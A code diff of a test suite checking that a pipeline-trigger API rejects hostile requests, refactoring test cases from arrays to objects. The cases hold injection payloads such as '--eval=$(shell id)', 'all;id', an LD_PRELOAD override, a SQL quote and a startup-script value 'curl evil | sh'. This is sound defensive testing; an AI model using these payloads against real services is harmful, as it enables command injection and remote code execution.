@@ -29,21 +29,21 @@ describe('triggerRun refuses hostile requests before any API call', () => {
   };
 
   it.each([
-    ['a make option', '--eval=$(shell id)'],
-    ['a make variable', 'VAR=$(id)'],
-    ['a command separator', 'all;id'],
-    ['a pipe', 'all|id'],
-    ['a space', 'all id'],
-    ['a newline', 'all\nid'],
-    ['a leading dash', '-n'],
-    ['a path', '../all'],
-    ['non-ASCII', 'catégories'],
-    ['a look-alike of an allowed target', 'ａll'],
-    ['an allowed target with a trailing newline', 'all\n'],
-    ['an allowed target in another case', 'ALL'],
-    ['nothing', ''],
-    ['a number instead of text', 42],
-  ])('400 for a target with %s', async (_what, target) => {
+    { what: 'a make option', target: '--eval=$(shell id)' },
+    { what: 'a make variable', target: 'VAR=$(id)' },
+    { what: 'a command separator', target: 'all;id' },
+    { what: 'a pipe', target: 'all|id' },
+    { what: 'a space', target: 'all id' },
+    { what: 'a newline', target: 'all\nid' },
+    { what: 'a leading dash', target: '-n' },
+    { what: 'a path', target: '../all' },
+    { what: 'non-ASCII', target: 'catégories' },
+    { what: 'a look-alike of an allowed target', target: 'ａll' },
+    { what: 'an allowed target with a trailing newline', target: 'all\n' },
+    { what: 'an allowed target in another case', target: 'ALL' },
+    { what: 'nothing', target: '' },
+    { what: 'a number instead of text', target: 42 },
+  ])('400 for a target with $what', async ({ target }) => {
     const reply = await api.call('POST', '/runs', {
       body: { pipeline: 'nightly-categories', target },
     });
@@ -54,19 +54,22 @@ describe('triggerRun refuses hostile requests before any API call', () => {
   });
 
   it.each([
-    ['a command substitution', { WORKERS: '$(id)' }],
-    ['a separator in an allowed value', { TARGET_PAIR: 'eurusd;id' }],
-    ['a value outside the allow-list', { TARGET_PAIR: 'btcusd' }],
-    ['a value outside the pattern', { WORKERS: '0' }],
-    ['a leading dash', { WORKERS: '-1' }],
-    ['a newline', { WORKERS: '8\n' }],
-    ['a space', { TARGET_PAIR: 'eur usd' }],
-    ['non-ASCII', { TARGET_PAIR: 'éurusd' }],
-    ['a variable that is not allowed', { LD_PRELOAD: '/tmp/x.so' }],
-    ['a variable costguard sets itself', { COSTGUARD_RUN_ID: 'run-00000000000000000000' }],
-    ['a lower-case variable', { workers: '8' }],
-    ['a nested object', { WORKERS: { value: '8' } }],
-  ])('400 for params with %s', async (_what, params) => {
+    { what: 'a command substitution', params: { WORKERS: '$(id)' } },
+    { what: 'a separator in an allowed value', params: { TARGET_PAIR: 'eurusd;id' } },
+    { what: 'a value outside the allow-list', params: { TARGET_PAIR: 'btcusd' } },
+    { what: 'a value outside the pattern', params: { WORKERS: '0' } },
+    { what: 'a leading dash', params: { WORKERS: '-1' } },
+    { what: 'a newline', params: { WORKERS: '8\n' } },
+    { what: 'a space', params: { TARGET_PAIR: 'eur usd' } },
+    { what: 'non-ASCII', params: { TARGET_PAIR: 'éurusd' } },
+    { what: 'a variable that is not allowed', params: { LD_PRELOAD: '/tmp/x.so' } },
+    {
+      what: 'a variable costguard sets itself',
+      params: { COSTGUARD_RUN_ID: 'run-00000000000000000000' },
+    },
+    { what: 'a lower-case variable', params: { workers: '8' } },
+    { what: 'a nested object', params: { WORKERS: { value: '8' } } },
+  ])('400 for params with $what', async ({ params }) => {
     const reply = await api.call('POST', '/runs', {
       body: { pipeline: 'feature-extraction', target: 'extract', params },
     });
@@ -77,25 +80,28 @@ describe('triggerRun refuses hostile requests before any API call', () => {
   });
 
   it.each([
-    [
-      'params for a VM pipeline (nothing from a request becomes a metadata key)',
-      {
+    {
+      what: 'params for a VM pipeline (nothing from a request becomes a metadata key)',
+      body: {
         pipeline: 'nightly-categories',
         target: 'all',
         params: { 'startup-script': 'curl evil | sh' },
       },
-    ],
-    ['an unknown pipeline', { pipeline: 'nope', target: 'all' }],
-    ['a pipeline name with a path', { pipeline: '../nightly-categories', target: 'all' }],
-    ['an inherited property as pipeline', { pipeline: 'constructor', target: 'all' }],
-    [
-      'an unexpected field',
-      { pipeline: 'nightly-categories', target: 'all', metadata: { 'startup-script': 'x' } },
-    ],
-    ['no target', { pipeline: 'nightly-categories' }],
-    ['an array', ['nightly-categories', 'all']],
-    ['null', null],
-  ])('400 for %s', async (_what, body) => {
+    },
+    { what: 'an unknown pipeline', body: { pipeline: 'nope', target: 'all' } },
+    {
+      what: 'a pipeline name with a path',
+      body: { pipeline: '../nightly-categories', target: 'all' },
+    },
+    { what: 'an inherited property as pipeline', body: { pipeline: 'constructor', target: 'all' } },
+    {
+      what: 'an unexpected field',
+      body: { pipeline: 'nightly-categories', target: 'all', metadata: { 'startup-script': 'x' } },
+    },
+    { what: 'no target', body: { pipeline: 'nightly-categories' } },
+    { what: 'an array', body: ['nightly-categories', 'all'] },
+    { what: 'null', body: null },
+  ])('400 for $what', async ({ body }) => {
     const reply = await api.call('POST', '/runs', { body });
 
     expect(reply.status).toBe(400);
@@ -113,9 +119,9 @@ describe('triggerRun refuses hostile requests before any API call', () => {
   });
 
   it.each([
-    ['text/plain', 'pipeline=nightly-categories&target=all'],
-    ['application/x-www-form-urlencoded', 'pipeline=nightly-categories&target=all'],
-  ])('415 for a %s body', async (type, raw) => {
+    { type: 'text/plain', raw: 'pipeline=nightly-categories&target=all' },
+    { type: 'application/x-www-form-urlencoded', raw: 'pipeline=nightly-categories&target=all' },
+  ])('415 for a $type body', async ({ type, raw }) => {
     const reply = await api.call('POST', '/runs', { raw, headers: { 'content-type': type } });
 
     expect(reply.status).toBe(415);
@@ -123,9 +129,9 @@ describe('triggerRun refuses hostile requests before any API call', () => {
   });
 
   it.each([
-    ['just over the limit', 16 * 1024 + 1],
-    ['a megabyte', 1024 * 1024],
-  ])('413 for a body %s', async (_what, size) => {
+    { what: 'just over the limit', size: 16 * 1024 + 1 },
+    { what: 'a megabyte', size: 1024 * 1024 },
+  ])('413 for a body $what', async ({ size }) => {
     const padding = 'x'.repeat(size);
     const reply = await api.call('POST', '/runs', {
       body: { pipeline: 'nightly-categories', target: 'all', padding },
@@ -136,9 +142,9 @@ describe('triggerRun refuses hostile requests before any API call', () => {
   });
 
   it.each([
-    ['spaces', 'my key'],
-    ['too many characters', 'k'.repeat(256)],
-  ])('400 for an Idempotency-Key with %s', async (_what, key) => {
+    { what: 'spaces', key: 'my key' },
+    { what: 'too many characters', key: 'k'.repeat(256) },
+  ])('400 for an Idempotency-Key with $what', async ({ key }) => {
     const reply = await api.call('POST', '/runs', {
       body: { pipeline: 'nightly-categories', target: 'all' },
       headers: { 'idempotency-key': key },
@@ -150,13 +156,13 @@ describe('triggerRun refuses hostile requests before any API call', () => {
   });
 
   it.each([
-    ['PUT', '/runs', 'GET, POST'],
-    ['DELETE', '/runs', 'GET, POST'],
-    ['POST', '/runs/run-0123456789abcdef0123', 'GET'],
-    ['DELETE', '/runs/run-0123456789abcdef0123', 'GET'],
-    ['GET', '/runs/run-0123456789abcdef0123:cancel', 'POST'],
-    ['POST', '/openapi.json', 'GET'],
-  ])('405 for %s %s, with Allow', async (method, path, allow) => {
+    { method: 'PUT', path: '/runs', allow: 'GET, POST' },
+    { method: 'DELETE', path: '/runs', allow: 'GET, POST' },
+    { method: 'POST', path: '/runs/run-0123456789abcdef0123', allow: 'GET' },
+    { method: 'DELETE', path: '/runs/run-0123456789abcdef0123', allow: 'GET' },
+    { method: 'GET', path: '/runs/run-0123456789abcdef0123:cancel', allow: 'POST' },
+    { method: 'POST', path: '/openapi.json', allow: 'GET' },
+  ])('405 for $method $path, with Allow', async ({ method, path, allow }) => {
     const reply = await api.call(method, path);
 
     expect(reply.status).toBe(405);
@@ -189,14 +195,14 @@ describe('triggerRun refuses hostile requests before any API call', () => {
   });
 
   it.each([
-    ['a limit of 0', '?limit=0'],
-    ['a limit over 100', '?limit=1000'],
-    ['a limit that is not a number', '?limit=ten'],
-    ['an unknown pipeline', '?pipeline=nope'],
-    ['a pipeline with a quote', "?pipeline=nightly'--"],
-    ['an unknown parameter', '?order=desc'],
-    ['a repeated parameter', '?limit=1&limit=2'],
-  ])('400 for a listing with %s', async (_what, query) => {
+    { what: 'a limit of 0', query: '?limit=0' },
+    { what: 'a limit over 100', query: '?limit=1000' },
+    { what: 'a limit that is not a number', query: '?limit=ten' },
+    { what: 'an unknown pipeline', query: '?pipeline=nope' },
+    { what: 'a pipeline with a quote', query: "?pipeline=nightly'--" },
+    { what: 'an unknown parameter', query: '?order=desc' },
+    { what: 'a repeated parameter', query: '?limit=1&limit=2' },
+  ])('400 for a listing with $what', async ({ query }) => {
     const reply = await api.call('GET', `/runs${query}`);
 
     expect(reply.status).toBe(400);
